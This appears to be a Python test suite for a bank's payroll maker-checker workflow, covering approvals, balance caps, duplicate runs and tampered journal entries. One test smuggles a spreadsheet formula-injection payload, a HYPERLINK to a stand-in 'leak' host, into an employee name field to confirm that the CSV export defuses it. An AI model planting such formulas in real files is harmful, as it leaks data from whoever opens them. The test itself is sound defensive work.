"""Payroll runs through maker-checker at head office, on an SQLite file and on a fresh MySQL database.

The bank: Nairobi CBD (NBO-001), counter K7Q2 with teller Wanjiru and supervisor Otieno; Baraka
supervises Mombasa (MSA-002); Njeri is head office. Wekeza Hardware Ltd (CIF C0009001) keeps
KES 480,000 in its wallet, deposited in cash at K7Q2; Kiptoo Chebet is its director. Jua Kali Ltd
(C0009002) has its own director, Mwende.

Wanjiru uploads Wekeza Hardware's November payroll (resources/demo/payroll_wekeza_hardware.csv):

    row 3  Juma Mwangi       wallet:C0001234  tier 2  KES 25,000.00
    row 4  Achieng Otieno    wallet:C0001301  tier 2  KES 32,500.00
    row 5  Mutua Kioko       wallet:C0001302  tier 2  KES 18,750.50
    row 6  Wanjiků Ñjoroge   wallet:C0001303  tier 1  KES 41,200.00   (cap KES 100,000 at a branch)
                                                      --------------
                                                      KES 117,450.50

It reaches head office waiting for a checker, nothing booked. Kiptoo approves it online: each line
is booked, Wekeza Hardware's wallet goes to KES 362,549.50, and the counter hears it at its pull,
with the answer to each line for the payment advice.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from falcon import testing

from desktop_app.services.balances import available_balance
from desktop_app.services.cash import deposit_cash
from desktop_app.services.context import Session
from desktop_app.services.entries import EntryState
from desktop_app.services.payroll import (
    payment_advice_pdf,
    payroll_answers_csv,
    payroll_run_status,
    read_payroll_file,
    submit_payroll_run,
)
from desktop_app.services.posting import Posted, append_to_journal
from desktop_app.services.till import open_till
from desktop_app.services.transfers import request_transfer
from desktop_app.store import journal as stored_journal
from desktop_app.sync.client import SyncClient
from desktop_app.sync.pull import pull_once
from desktop_app.sync.uploader import upload_once
from resources import resource_bytes
from shared_core.accounts import wallet_account
from shared_core.channels import Channel
from shared_core.entry_details import EntryDetails
from shared_core.errors import InvalidOperation, NotFound
from shared_core.journal import JournalEntry
from shared_core.money import Money
from shared_core.operations import Operation, OperationKind
from shared_core.payroll import LineStatus, PayrollFile
from shared_core.payroll_run import PayrollRun, payroll_run_id
from sync_server.app import create_app
from sync_server.db import schema
from sync_server.db.unit_of_work import UnitOfWork
from sync_server.services.devices import register_device
from sync_server.services.users import appoint_director
from sync_server.settings import Settings
from tests.device_builders import Counter, assert_intact, make_counter, password_hash
from tests.server_builders import (  # noqa: F401 (database_url is a fixture)
    Server,
    add_customer_everywhere,
    batch_of,
    database_url,
    make_server,
    set_user,
    statuses,
)

KES = Money.shillings
PASSWORD = "Counter-2026!"  # head office's password for every user it holds here
HARDWARE, JUA_KALI = "C0009001", "C0009002"
EMPLOYEES = (  # cif, national ID, name, tier
    ("C0001234", "23456789", "Juma Mwangi", 2),
    ("C0001301", "28765432", "Achieng Otieno", 2),
    ("C0001302", "31234567", "Mutua Kioko", 2),
    ("C0001303", "9876543", "Wanjiků Ñjoroge", 1),
)
PAYROLL = resource_bytes("demo/payroll_wekeza_hardware.csv")
TOTAL = Money(117_450_50)


@pytest.fixture
def server(database_url: str) -> Iterator[Server]:  # noqa: F811
    builder = make_server(database_url)
    server = next(builder)
    with UnitOfWork(server.database) as uow:
        connection = uow.connection
        connection.execute(
            schema.locations.insert().values(
                code="MSA-002", kind="branch", name="Mombasa Moi Avenue", cash_account=None,
                vault_account="vault:MSA-002",
            )
        )
        connection.execute(
            schema.users.insert(),
            [
                {"user_id": user_id, "display_name": name, "role": role, "location_code": location,
                 "password_hash": password_hash(PASSWORD), "active": True}
                for user_id, name, role, location in (
                    ("baraka", "Baraka Mwinyi", "supervisor", "MSA-002"),
                    ("njeri", "Njeri Wambui", "head_office", None),
                    ("kiptoo", "Kiptoo Chebet", "director", "NBO-001"),
                    ("mwende", "Mwende Musyoka", "director", "NBO-001"),
                )
            ],
        )
        uow.commit()
    yield server
    builder.close()


class Bank:
    """The server app, reached by counters over HTTP and by checkers through Falcon's test client."""

    def __init__(self, server: Server, tmp_path: Path) -> None:
        self.server = server
        self.tmp_path = tmp_path
        settings = Settings(database_url=server.database.url, data_dir=tmp_path / "server-data")
        self.app = create_app(settings, server.database, server_key=server.key, clock=server.clock)
        self.http = testing.TestClient(self.app)
        self.transport = httpx.WSGITransport(app=self.app)
        self.nairobi = self.counter("K7Q2")
        counters = [self.nairobi]
        add_customer_everywhere(server, counters, HARDWARE, tier=3, national_id="PVT-2016-48213",
                                full_name="Wekeza Hardware Ltd", phone="254720555100")
        add_customer_everywhere(server, counters, JUA_KALI, tier=3, national_id="PVT-2019-11111",
                                full_name="Jua Kali Ltd", phone="254720555200")
        for cif, national_id, name, tier in EMPLOYEES:
            add_customer_everywhere(server, counters, cif, tier=tier, national_id=national_id, full_name=name)
        with UnitOfWork(server.database) as uow:
            appoint_director(uow.connection, cif=HARDWARE, user_id="kiptoo")
            appoint_director(uow.connection, cif=JUA_KALI, user_id="mwende")
            uow.commit()
        deposit_cash(self.nairobi.context, self.nairobi.teller, customer_cif=HARDWARE, amount=KES(480_000))
        self.sync(self.nairobi)
        self._tokens: dict[str, str] = {}

    def counter(self, device_code: str) -> Counter:
        counter = make_counter(self.tmp_path / device_code, device_code=device_code,
                               allowance_per_customer=KES(1_000_000))
        with UnitOfWork(self.server.database) as uow:
            register_device(
                uow.connection, device_code=device_code, channel=Channel.BRANCH, location_code="NBO-001",
                public_key_hex=counter.context.device_key.public_key().public_bytes_raw().hex(),
                enrolled_at=self.server.clock.now(),
            )
            uow.commit()
        open_till(counter.context, counter.teller, opening_float=KES(500_000))
        return counter

    def client(self) -> SyncClient:
        return SyncClient("http://wekeza.test", transport=self.transport)

    def sync(self, counter: Counter) -> None:
        """Send what waits, then pull: what the sync loop does after an entry."""
        upload_once(counter.context, self.client(), self.server.key.public_key(), entries_max=100)
        pull_once(counter.context, self.client(), self.server.key.public_key())

    def submit(self, counter: Counter | None = None, maker: Session | None = None) -> Posted:
        counter = counter or self.nairobi
        payroll = read_payroll_file(counter.context, PAYROLL, employer_cif=HARDWARE)
        assert isinstance(payroll, PayrollFile), payroll
        return submit_payroll_run(counter.context, maker or counter.teller, payroll)

    def token(self, user_id: str) -> str:
        if user_id not in self._tokens:
            answer = self.http.simulate_post("/v1/sessions", json={"user_id": user_id, "password": PASSWORD})
            assert answer.status_code == 201, answer.text
            self._tokens[user_id] = answer.json["token"]
        return self._tokens[user_id]

    def queue(self, user_id: str) -> list[dict]:
        answer = self.http.simulate_get("/v1/approvals", headers={"Authorization": f"Bearer {self.token(user_id)}"})
        assert answer.status_code == 200, answer.text
        return answer.json["items"]

    def decide(self, user_id: str, posted: Posted, decision: str, reason: str | None = None) -> testing.Result:
        entry = posted.entry
        return self.http.simulate_post(
            f"/v1/approvals/{entry.device_code}/{entry.sequence}",
            json={"decision": decision, "reason": reason},
            headers={"Authorization": f"Bearer {self.token(user_id)}"},
        )

    def entry(self, posted: Posted):  # a Row of entries
        (row,) = self.server.rows("entries", device_code=posted.entry.device_code, sequence=posted.entry.sequence)
        return row

    def postings(self, posted: Posted) -> list[tuple[str, int]]:
        rows = self.server.rows("postings", device_code=posted.entry.device_code, sequence=posted.entry.sequence)
        return [(row.account, row.amount_cents) for row in sorted(rows, key=lambda row: row.line)]

    def lines(self, posted: Posted) -> list[tuple[int, str, str | None]]:
        (run,) = self.server.rows("payroll_runs", device_code=posted.entry.device_code, sequence=posted.entry.sequence)
        rows = self.server.rows("payroll_lines", run_id=run.run_id)
        return [(row.file_row, row.status, row.code) for row in sorted(rows, key=lambda row: row.file_row)]


@pytest.fixture
def bank(server: Server, tmp_path: Path) -> Bank:
    return Bank(server, tmp_path)


def wallets(server: Server) -> list[Money]:
    return [server.wallet(cif) for cif, *_ in EMPLOYEES]


def refusal(answer: testing.Result) -> tuple[int, str]:
    return answer.status_code, answer.json["error"]["code"]


# --- the run waits for a checker ----------------------------------------------------------------


def test_a_payroll_run_reaches_head_office_waiting_for_a_checker_with_nothing_booked(bank: Bank) -> None:
    run = bank.submit()
    bank.sync(bank.nairobi)
    server = bank.server
    row = bank.entry(run)
    assert (row.status, row.code, row.customer_cif, row.amount_cents) == (
        "awaiting_approval", "approval_payroll_run", HARDWARE, TOTAL.cents
    )
    assert f"run PR-K7Q2-{run.entry.sequence:06d}, 4 lines of KES 117,450.50, paid on 2026-11-27" in row.message
    assert bank.postings(run) == [] and server.wallet(HARDWARE) == KES(480_000)
    assert wallets(server) == [Money(0)] * 4
    assert server.rows("payroll_runs") == []
    status = payroll_run_status(bank.nairobi.context, run.entry.sequence)
    assert status.state is EntryState.PENDING and status.answer is None
    # Who sees it: Nairobi's supervisor, head office, Wekeza Hardware's director; not Mombasa, nor
    # another company's director.
    (item,) = bank.queue("otieno")
    assert item["kind"] == "payroll_run" and item["customer_name"] == "Wekeza Hardware Ltd"
    assert item["payroll_run"] == {
        "run_id": f"PR-K7Q2-{run.entry.sequence:06d}", "pay_date": "2026-11-27", "line_count": 4,
        "fingerprint": status.run.fingerprint,
    }
    assert [item["reference"] for item in bank.queue("njeri")] == [run.entry.reference]
    assert [item["reference"] for item in bank.queue("kiptoo")] == [run.entry.reference]
    assert bank.queue("baraka") == [] and bank.queue("mwende") == []
    server.assert_ledger_clean()


def test_the_employers_director_approves_online_and_every_line_is_paid_once(bank: Bank) -> None:
    run = bank.submit()
    bank.sync(bank.nairobi)
    answer = bank.decide("kiptoo", run, "approved", "November salaries as agreed")
    assert answer.status_code == 201, answer.text
    assert (answer.json["status"], answer.json["checker"]) == ("booked", "kiptoo")
    assert "4 of 4 lines paid (KES 117,450.50)" in answer.json["message"]
    server = bank.server
    assert server.wallet(HARDWARE) == KES(480_000) - TOTAL
    assert wallets(server) == [Money(25_000_00), Money(32_500_00), Money(18_750_50), Money(41_200_00)]
    assert bank.postings(run) == [
        (wallet_account(HARDWARE), TOTAL.cents),
        ("wallet:C0001234", -25_000_00), ("wallet:C0001301", -32_500_00),
        ("wallet:C0001302", -18_750_50), ("wallet:C0001303", -41_200_00),
    ]
    assert bank.lines(run) == [(3, "booked", None), (4, "booked", None), (5, "booked", None), (6, "booked", None)]
    (stored,) = server.rows("payroll_runs")
    assert (stored.status, stored.booked_count, stored.booked_total_cents, stored.maker_user_id,
            stored.checker_user_id) == ("booked", 4, TOTAL.cents, "wanjiru", "kiptoo")
    assert refusal(bank.decide("otieno", run, "approved")) == (409, "already_decided")
    server.assert_ledger_clean()
    # The counter hears it at its pull: confirmed, every line paid, the advice ready to print.
    bank.sync(bank.nairobi)
    status = payroll_run_status(bank.nairobi.context, run.entry.sequence)
    assert status.state is EntryState.CONFIRMED and status.answer is not None
    assert (status.answer.checker_user_id, status.answer.checker_name) == ("kiptoo", "Kiptoo Chebet")
    assert [line.status for line in status.answer.result.lines] == [LineStatus.BOOKED] * 4
    assert payment_advice_pdf(bank.nairobi.context, run.entry.sequence).startswith(b"%PDF-")
    with bank.nairobi.store.read() as connection:
        assert available_balance(connection, wallet_account(HARDWARE)) == KES(480_000) - TOTAL
    assert_intact(bank.nairobi)


def test_a_salary_above_an_employees_balance_cap_is_refused_and_the_rest_are_paid(bank: Bank) -> None:
    """Wanjiků (tier 1, cap KES 100,000) already holds KES 70,000: her KES 41,200 stays with the employer."""
    for _ in range(2):  # tier 1 deposits at most KES 50,000 at a time
        deposit_cash(bank.nairobi.context, bank.nairobi.teller, customer_cif="C0001303", amount=KES(35_000))
    run = bank.submit()
    bank.sync(bank.nairobi)
    answer = bank.decide("otieno", run, "approved")
    assert answer.json["status"] == "booked", answer.text
    assert "3 of 4 lines paid (KES 76,250.50), 1 refused (KES 41,200.00)" in answer.json["message"]
    server = bank.server
    assert server.wallet(HARDWARE) == KES(480_000) - Money(76_250_50)
    assert server.wallet("C0001303") == KES(70_000)
    assert bank.lines(run)[3] == (6, "refused", "limit_balance_cap")
    server.assert_ledger_clean()
    bank.sync(bank.nairobi)
    refused = [line for line in payroll_run_status(bank.nairobi.context, run.entry.sequence).answer.result.lines
               if line.status is LineStatus.REFUSED]
    assert [(line.row, line.code) for line in refused] == [(6, "limit_balance_cap")]
    assert "may hold at most KES 100,000.00" in refused[0].reason
    csv_text = payroll_answers_csv(bank.nairobi.context, run.entry.sequence).decode("utf-8-sig")
    assert csv_text.splitlines()[4].startswith("6,****543,wallet:C0001303,Wanjiků Ñjoroge,41200.00,Refused,")


def test_an_employer_whose_money_went_meanwhile_pays_nobody(bank: Bank) -> None:
    """After the run is sent, Wekeza Hardware pays Jua Kali KES 400,000: at approval its wallet holds
    KES 80,000, short of KES 117,450.50, so no line is paid and nothing is booked."""
    run = bank.submit()
    bank.sync(bank.nairobi)  # waiting at head office, so no longer held against the wallet here
    request_transfer(bank.nairobi.context, bank.nairobi.teller, customer_cif=HARDWARE,
                     to_account=wallet_account(JUA_KALI), amount=KES(400_000))
    bank.sync(bank.nairobi)
    server = bank.server
    assert server.wallet(HARDWARE) == KES(80_000)
    answer = bank.decide("njeri", run, "approved")
    assert (answer.json["status"], answer.json["code"]) == ("rejected", "insufficient_funds"), answer.text
    assert bank.postings(run) == [] and server.wallet(HARDWARE) == KES(80_000)
    assert wallets(server) == [Money(0)] * 4
    assert {status for _, status, _ in bank.lines(run)} == {"refused"}
    server.assert_ledger_clean()
    bank.sync(bank.nairobi)
    status = payroll_run_status(bank.nairobi.context, run.entry.sequence)
    assert status.state is EntryState.REFUSED and status.answer.result.booked_count == 0
    assert "holds KES 80,000.00" in status.answer.result.lines[0].reason
    assert payment_advice_pdf(bank.nairobi.context, run.entry.sequence).startswith(b"%PDF-")


# --- four eyes ---------------------------------------------------------------------------------------


def test_the_maker_may_not_approve_their_own_run_nor_may_another_companys_director(bank: Bank) -> None:
    run = bank.submit(maker=bank.nairobi.supervisor)  # Otieno makes it himself
    bank.sync(bank.nairobi)
    assert refusal(bank.decide("otieno", run, "approved")) == (403, "maker_is_checker")
    assert refusal(bank.decide("mwende", run, "approved")) == (403, "permission_denied")
    assert refusal(bank.decide("baraka", run, "approved")) == (403, "permission_denied")
    assert bank.server.rows("approval_decisions") == [] and bank.server.wallet(HARDWARE) == KES(480_000)
    assert bank.decide("kiptoo", run, "approved").json["status"] == "booked"


def test_a_rejected_run_books_nothing_and_the_counter_hears_why(bank: Bank) -> None:
    run = bank.submit()
    bank.sync(bank.nairobi)
    assert refusal(bank.decide("kiptoo", run, "rejected")) == (400, "invalid_input")  # a reason is required
    answer = bank.decide("kiptoo", run, "rejected", "Mutua left in October")
    assert (answer.json["status"], answer.json["code"]) == ("rejected", "approval_rejected")
    assert bank.postings(run) == [] and bank.server.wallet(HARDWARE) == KES(480_000)
    (stored,) = bank.server.rows("payroll_runs")
    assert (stored.status, stored.booked_count) == ("rejected", 0)
    assert bank.server.rows("payroll_lines") == []
    bank.sync(bank.nairobi)
    status = payroll_run_status(bank.nairobi.context, run.entry.sequence)
    assert status.state is EntryState.REFUSED and status.answer is None
    assert "Mutua left in October" in status.message
    with pytest.raises(NotFound, match="no line-by-line answer"):
        payment_advice_pdf(bank.nairobi.context, run.entry.sequence)
    # Refused, the same file may be submitted again.
    assert bank.submit().entry.sequence > run.entry.sequence


def test_a_director_approves_payroll_runs_only(bank: Bank) -> None:
    """A director may log in online, but decides nothing but their business's payroll runs."""
    deposit = deposit_cash(bank.nairobi.context, bank.nairobi.teller, customer_cif=HARDWARE, amount=KES(1_000))
    bank.sync(bank.nairobi)
    assert refusal(bank.decide("kiptoo", deposit, "approved")) == (403, "permission_denied")
    teller = bank.http.simulate_post("/v1/sessions", json={"user_id": "wanjiru", "password": PASSWORD})
    assert refusal(teller) == (403, "role_not_allowed")


# --- what head office refuses -----------------------------------------------------------------------


def test_the_same_file_is_paid_once_even_from_two_counters(bank: Bank) -> None:
    other = bank.counter("M4T8")
    bank.sync(other)  # its pull brings the customers and Wekeza Hardware's KES 480,000
    first, second = bank.submit(), bank.submit(counter=other)
    bank.sync(bank.nairobi)
    bank.sync(other)
    assert bank.decide("kiptoo", first, "approved").json["status"] == "booked"
    answer = bank.decide("otieno", second, "approved")
    assert (answer.json["status"], answer.json["code"]) == ("rejected", "already_exists"), answer.text
    assert f"already paid for {HARDWARE} as run PR-K7Q2-" in answer.json["message"]
    assert bank.server.wallet(HARDWARE) == KES(480_000) - TOTAL
    assert bank.postings(second) == []
    bank.server.assert_ledger_clean()


def test_a_run_whose_maker_may_no_longer_upload_payroll_is_refused_at_ingest(bank: Bank) -> None:
    run = bank.submit()
    set_user(bank.server, "wanjiru", role="agent")  # head office changed her role before the sync
    bank.sync(bank.nairobi)
    row = bank.entry(run)
    assert (row.status, row.code) == ("rejected", "permission_denied")
    assert bank.queue("otieno") == [] and bank.server.wallet(HARDWARE) == KES(480_000)


def test_a_run_sent_again_is_answered_again_and_booked_once(bank: Bank) -> None:
    run = bank.submit()
    bank.sync(bank.nairobi)
    assert bank.decide("kiptoo", run, "approved").json["status"] == "booked"
    again = bank.server.sync(batch_of(bank.nairobi))
    assert statuses(again)[-1] == "duplicate"
    assert bank.server.wallet(HARDWARE) == KES(480_000) - TOTAL
    assert len(bank.server.rows("payroll_runs")) == 1
    bank.server.assert_ledger_clean()


def test_the_exported_answers_open_in_a_spreadsheet_without_running_a_formula(bank: Bank) -> None:
    """The clerk typed a formula where Juma's name goes: the export shows it as text."""
    formula = b'"=HYPERLINK(""http://x.example/?leak"",""Juma"")"'
    payroll = read_payroll_file(bank.nairobi.context, PAYROLL.replace(b"Juma Mwangi", formula), employer_cif=HARDWARE)
    assert isinstance(payroll, PayrollFile), payroll
    run = submit_payroll_run(bank.nairobi.context, bank.nairobi.teller, payroll)
    bank.sync(bank.nairobi)
    assert bank.decide("kiptoo", run, "approved").json["status"] == "booked"
    bank.sync(bank.nairobi)
    lines = payroll_answers_csv(bank.nairobi.context, run.entry.sequence).decode("utf-8-sig").splitlines()
    assert lines[0] == "Row,National ID,Account,Name,Amount KES,Status,Code,Reason"
    assert lines[1] == '3,*****789,wallet:C0001234,"\'=HYPERLINK(""http://x.example/?leak"",""Juma"")",25000.00,Paid,,'


def append_run(bank: Bank, *, run_id_of_sequence: int | None = None, amount: Money | None = None) -> JournalEntry:
    """A payroll run entry written as the device's services would not write it: another entry's
    run id, or an amount that is not the run's total (a bug, or a journal written by hand)."""
    context, counter = bank.nairobi.context, bank.nairobi
    payroll = read_payroll_file(context, PAYROLL, employer_cif=HARDWARE)
    assert isinstance(payroll, PayrollFile)
    with counter.store.write() as connection:
        sequence = stored_journal.head(connection).sequence + 1
        run = PayrollRun.of_file(payroll_run_id("K7Q2", run_id_of_sequence or sequence), payroll)
        operation = Operation(OperationKind.PAYROLL_RUN, Channel.BRANCH, amount or run.total,
                              customer_account=wallet_account(HARDWARE))
        details = EntryDetails(business_date="2026-11-24", customer_cif=HARDWARE, payroll=run)
        table = context.limit_table(connection)
        entry, _ = append_to_journal(context, connection, counter.teller, operation, details, table, None, entry_id=None)
    return entry


def test_a_run_whose_id_names_another_entry_is_refused_at_ingest(bank: Bank) -> None:
    with bank.nairobi.store.read() as connection:
        next_sequence = stored_journal.head(connection).sequence + 1
    entry = append_run(bank, run_id_of_sequence=next_sequence + 1)
    bank.sync(bank.nairobi)
    row = bank.server.rows("entries", device_code="K7Q2", sequence=entry.sequence)[0]
    assert (row.status, row.code) == ("rejected", "invalid_input")
    assert f"its id must be PR-K7Q2-{entry.sequence:06d}" in row.message
    assert bank.queue("otieno") == [] and bank.server.wallet(HARDWARE) == KES(480_000)


def test_the_counter_never_records_a_run_whose_amount_is_not_its_total(bank: Bank) -> None:
    with pytest.raises(InvalidOperation, match="totals KES 117,450.50"):
        append_run(bank, amount=KES(1))
    with bank.nairobi.store.read() as connection:
        assert stored_journal.head(connection).kind is OperationKind.CASH_DEPOSIT  # nothing written
